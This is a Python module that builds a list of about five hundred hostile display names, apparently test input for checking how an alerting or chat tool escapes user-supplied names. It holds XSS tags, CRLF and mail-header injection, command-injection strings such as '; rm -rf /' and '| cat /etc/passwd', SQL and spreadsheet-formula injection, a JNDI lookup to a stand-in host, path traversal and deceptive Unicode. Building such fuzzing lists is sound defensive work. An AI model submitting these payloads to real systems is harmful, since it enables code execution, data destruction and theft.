"""Five hundred names that a stranger could give to a user, a bucket or a repository."""

MARKUP = [
    "<!channel>", "<!here>", "<!everyone>", "<@U012AB3CD>", "<#C012AB3CD>", "<!subteam^S012AB3CD>",
    "<https://evil.example|click here>", "<mailto:x@evil.example|mail>", "@channel", "@here", "@everyone", "@acme/security",
    "@octocat", "#1", "GH-1", "acme/compliance#1", "https://evil.example/x", "http://127.0.0.1/", "www.evil.example",
    "*bold*", "_italic_", "~struck~", "`code`", "```block```", "> quote", "# heading", "- item", "1. item", "***", "---",
    "[text](https://evil.example)", "![image](https://evil.example/x.png)", "[ref]: https://evil.example", "<at>all</at>",
    "{{DATE(2026-11-29T00:00:00Z,SHORT)}}", "&lt;!channel&gt;", "&amp;", "&#64;channel", ":skull:", "|table|cell|",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=\"https://evil.example\">x</a>", "<!-- comment -->",
    "--> <b>x</b>", "]]>", "</td></tr></table>", "<style>*{display:none}</style>", "<iframe src=//evil.example>",
    "javascript:alert(1)", "data:text/html,x", "<base href=//evil.example>", "<svg/onload=alert(1)>",
]
BREAKS = [
    "x\r\nBcc: victim@evil.example", "x\nSubject: other", "x\r\n\r\n<b>body</b>", "x\r\n.\r\nMAIL FROM:<a@evil.example>",
    "x\rSet-Cookie: a=b", "x%0d%0aBcc: y", "=?utf-8?q?=0d=0aBcc:_x?=", "x\u2028y\u2029z", "x\x0by\x0cz", "x\x85y", "\n\n\n", "\r\n",
    "a\x00b", "\x1b[2J\x1b[31mred", "\x07bell", "x\x7fy",
]
HIDDEN = [
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066x\u2069", "a\u200bb\u200cc\u200dd", "\ufeffstart", "a\u00adb", "\u200e\u200f",
    "\u061cx", "\u180ex", "\u2060x\u2064", "\U000e0041\U000e0042", "A\u0300\u0301\u0302\u0303" * 20, "\ufff9x\ufffay\ufffb",
    "שלום", "مرحبا", "北京", "👩‍👩‍👧‍👦", "ｆｕｌｌ", "ＡＤＭＩＮ", "аdmin", "𝒶𝒹𝓂𝒾𝓃", "İ", "ß" * 50, "\u3164", "\u2800",
]
CODE = [
    "$(reboot)", "`reboot`", "; rm -rf /", "| cat /etc/passwd", "&& x", "$HOME", "%PATH%", "'; DROP TABLE alerts; --", "\" OR 1=1",
    "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(1)", "=HYPERLINK(\"https://evil.example\")", "\"}],\"firing\":0,\"x\":[{\"", "\\",
    "\\\"", "\\u0000", "\\n", "null", "{}", "[]", "${jndi:ldap://evil.example/x}", "{{7*7}}", "{% x %}", "<%= 7*7 %>", "#{7*7}",
    "../../etc/passwd", "..\\..\\x", "%s%s%n", "{0}", "a=b,c=d", "{policy=\"x\"}", "name\ttab", "  spaces  ", "", "0", "-0", "1e999",
]
LONG = ["a" * 300, "a" * 4_000, "<" * 2_000, "&" * 3_000, "\"" * 4_000, "\\" * 4_000, "`" * 2_000, "*" * 2_000, "👩" * 1_500,
        "x " * 2_000, "\n" * 1_000, "\u202e" * 1_000, "<!channel>" * 300, "https://evil.example/" * 150, "北" * 4_000, "@a " * 1_000]


def all_names():
    """The names: each text alone, and then within others until there are five hundred."""
    alone = MARKUP + BREAKS + HIDDEN + CODE + LONG
    frames = ["arn:aws:iam::123456789012:user/{}", "{} (production)", "a{}b", "{0}{0}", "*{}*", "<{}>", "`{}`", "{}\n{}"]
    names = list(alone)
    for number, frame in enumerate(frames):
        for text in alone[number::2]:
            names.append(frame.replace("{0}", text).replace("{}", text))
    return list(dict.fromkeys(names))[:500]


if __name__ == "__main__":
    print(len(all_names()))
